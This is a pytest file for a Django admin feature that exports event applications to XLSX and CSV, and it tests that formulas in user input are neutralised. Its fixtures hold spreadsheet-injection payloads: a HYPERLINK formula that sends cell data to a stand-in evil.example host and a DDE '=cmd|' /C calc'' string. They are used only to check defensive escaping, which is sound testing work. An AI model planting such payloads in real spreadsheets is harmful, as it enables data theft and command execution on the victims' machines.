"""Exporting applications to Excel and CSV: what an organiser opens on their PC."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from django.contrib.auth.models import Permission

from activities import exports
from activities.models import Application, Notification

ACTIVITIES = "/admin/activities/activity/"
APPLICATIONS = "/admin/activities/application/"
HEADERS = [
    "活动",
    "姓名",
    "手机号",
    "备注",
    "状态",
    "审核说明",
    "提交时间",
    "审核时间",
    "微信昵称",
    "OpenID",
    "通知状态",
]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def read_xlsx(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in line] for line in sheet.iter_rows()]


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


# The pure part: rows of text in, bytes out.


def test_csv_starts_with_a_bom_and_keeps_chinese():
    content = exports.csv_bytes(HEADERS[:2], [["木工工作坊", "张三"]])
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig") == "活动,姓名\r\n木工工作坊,张三\r\n"


@pytest.mark.parametrize("value", [FORMULA, "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
def test_csv_neutralises_formulas_with_an_apostrophe(value):
    assert read_csv(exports.csv_bytes(["姓名"], [[value]]))[1] == [f"'{value}"]


@pytest.mark.parametrize("value", ["张三", "13812345678", "a=b", "备注 - 无", ""])
def test_csv_leaves_other_text_alone(value):
    assert read_csv(exports.csv_bytes(["姓名"], [[value]]))[1] == [value]


def test_xlsx_cells_are_all_text_even_formulas_numbers_and_error_codes():
    content = exports.xlsx_bytes(["姓名", "手机号", "备注"], [[FORMULA, "13812345678", "#N/A"]])
    sheet = load_workbook(io.BytesIO(content)).active
    header, line = list(sheet.iter_rows())
    assert [c.value for c in header] == ["姓名", "手机号", "备注"]
    assert [c.value for c in line] == [FORMULA, "13812345678", "#N/A"]
    assert [c.data_type for c in line] == ["s", "s", "s"]
    assert sheet.freeze_panes == "A2"


def test_xlsx_drops_control_characters_that_xml_cannot_carry():
    content = exports.xlsx_bytes(["备注"], [["第一行\x0b第二行\x00"]])
    assert read_xlsx(content)[1] == ["第一行第二行"]


@pytest.mark.parametrize(
    ("fields", "text"),
    [
        (None, "—"),
        ({"state": "queued"}, "排队中"),
        (
            {"state": "queued", "attempts": 1, "error": "-1 system busy：将重试"},
            "排队中（-1 system busy：将重试）",
        ),
        ({"state": "sending"}, "发送中"),
        ({"state": "sent", "msgid": "3147483937"}, "已发送 msgid 3147483937"),
        ({"state": "delivered", "msgid": "3147483937"}, "已送达"),
        (
            {"state": "failed", "error": "微信投递失败：failed:user block"},
            "失败：微信投递失败：failed:user block",
        ),
    ],
)
def test_notification_text(fields, text):
    notification = None if fields is None else Notification(decision="approved", **fields)
    assert exports.notification_text(notification) == text


def test_times_are_shanghai_minutes():
    assert exports.local_time(datetime(2026, 5, 1, 16, 5, 59, tzinfo=UTC)) == "2026-05-02 00:05"
    assert exports.local_time(None) == ""


# Through the admin: what an organiser downloads.


@pytest.fixture
def applications(make_activity, make_fan, settings):
    """Two applications to 木工工作坊 (one decided and notified) and one to 城市徒步."""
    settings.WECHAT_TEMPLATE_APPLICATION_RESULT = "tmpl-id"
    workshop = make_activity(title="木工工作坊")
    walk = make_activity(title="城市徒步")
    zhang = Application.objects.create(
        activity=workshop,
        fan=make_fan("小鸡炖蘑菇🍄", openid="oFANZHANG"),
        name="张三",
        phone="13812345678",
        note="想学做板凳",
        status=Application.Status.APPROVED,
    )
    evil = Application.objects.create(
        activity=workshop,
        fan=make_fan("=cmd|' /C calc'!A0", openid="oFANEVIL"),
        name=FORMULA,
        phone="13900001111",
        note="-2+3",
        status=Application.Status.REJECTED,
        review_note="@不符合条件",
    )
    Application.objects.create(
        activity=walk, fan=make_fan("大白菜"), name="王五", phone="13700002222"
    )
    Application.objects.filter(pk=zhang.pk).update(
        created_at=datetime(2026, 5, 1, 2, 30, tzinfo=UTC),
        reviewed_at=datetime(2026, 5, 1, 16, 5, tzinfo=UTC),
    )
    Application.objects.filter(pk=evil.pk).update(created_at=datetime(2026, 5, 1, 3, 0, tzinfo=UTC))
    Notification.objects.create(
        application=zhang, decision="approved", state="sent", msgid="3147483937"
    )
    return workshop, walk, zhang, evil


def export(client, url: str, name: str, objects) -> object:
    response = client.post(url, {"action": name, "_selected_action": [o.pk for o in objects]})
    assert response.status_code == 200
    return response


def test_activity_export_xlsx_reads_back_as_the_organiser_sees_it(admin_client, applications):
    workshop, _, _, _ = applications

    response = export(admin_client, ACTIVITIES, "export_xlsx", [workshop])

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert re.fullmatch(
        rf'attachment; filename="applications-{workshop.pk}-\d{{4}}-\d{{2}}-\d{{2}}\.xlsx"',
        response["Content-Disposition"],
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[cell.value for cell in line] for line in sheet.iter_rows()]
    assert rows[0] == HEADERS
    assert rows[1] == [
        "木工工作坊",
        "张三",
        "13812345678",
        "想学做板凳",
        "已通过",
        None,  # an empty cell
        "2026-05-01 10:30",
        "2026-05-02 00:05",
        "小鸡炖蘑菇🍄",
        "oFANZHANG",
        "已发送 msgid 3147483937",
    ]
    assert sheet["C2"].data_type == "s"  # the phone number is text, not 1.38E+10
    assert len(rows) == 3  # 城市徒步's application is not in it


def test_formulas_in_fan_input_are_neutralised_in_both_files(admin_client, applications):
    workshop, _, _, evil = applications

    xlsx = load_workbook(
        io.BytesIO(export(admin_client, ACTIVITIES, "export_xlsx", [workshop]).content)
    ).active
    csv_rows = read_csv(export(admin_client, ACTIVITIES, "export_csv", [workshop]).content)

    xlsx_row = list(xlsx.iter_rows())[2]
    assert xlsx_row[1].value == FORMULA and xlsx_row[1].data_type == "s"
    assert all(cell.data_type == "s" for cell in xlsx_row if cell.value is not None)
    assert csv_rows[2][1] == f"'{FORMULA}"
    assert csv_rows[2][3] == "'-2+3"
    assert csv_rows[2][5] == "'@不符合条件"
    assert csv_rows[2][8] == "'=cmd|' /C calc'!A0"


def test_application_export_csv_of_the_selected_ones(admin_client, applications):
    _, _, zhang, _ = applications
    wang = Application.objects.get(name="王五")

    response = export(admin_client, APPLICATIONS, "export_csv", [zhang, wang])

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="applications-selected-\d{4}-\d{2}-\d{2}\.csv"',
        response["Content-Disposition"],
    )
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = read_csv(response.content)
    assert rows[0] == HEADERS
    assert [(line[0], line[1], line[2], line[4], line[10]) for line in rows[1:]] == [
        ("木工工作坊", "张三", "13812345678", "已通过", "已发送 msgid 3147483937"),
        ("城市徒步", "王五", "13700002222", "待审核", "—"),
    ]
    assert rows[1][6:8] == ["2026-05-01 10:30", "2026-05-02 00:05"]


def test_application_export_names_the_file_after_their_one_activity(admin_client, applications):
    workshop, _, zhang, evil = applications
    response = export(admin_client, APPLICATIONS, "export_xlsx", [zhang, evil])
    assert f'filename="applications-{workshop.pk}-' in response["Content-Disposition"]
    assert [row[1] for row in read_xlsx(response.content)[1:]] == ["张三", FORMULA]


def test_export_needs_the_export_permission(client, django_user_model, applications):
    workshop, _, zhang, _ = applications
    user = django_user_model.objects.create_user("clerk", password="x", is_staff=True)
    user.user_permissions.add(
        *Permission.objects.filter(codename__in=["view_activity", "view_application"])
    )
    client.force_login(user)

    for url, objects in [(ACTIVITIES, [workshop]), (APPLICATIONS, [zhang])]:
        response = client.post(
            url, {"action": "export_xlsx", "_selected_action": [o.pk for o in objects]}
        )
        assert "Content-Disposition" not in response
        assert "导出" not in client.get(url).content.decode()

    user.user_permissions.add(Permission.objects.get(codename="export_application"))
    response = client.post(ACTIVITIES, {"action": "export_csv", "_selected_action": [workshop.pk]})
    assert read_csv(response.content)[0] == HEADERS
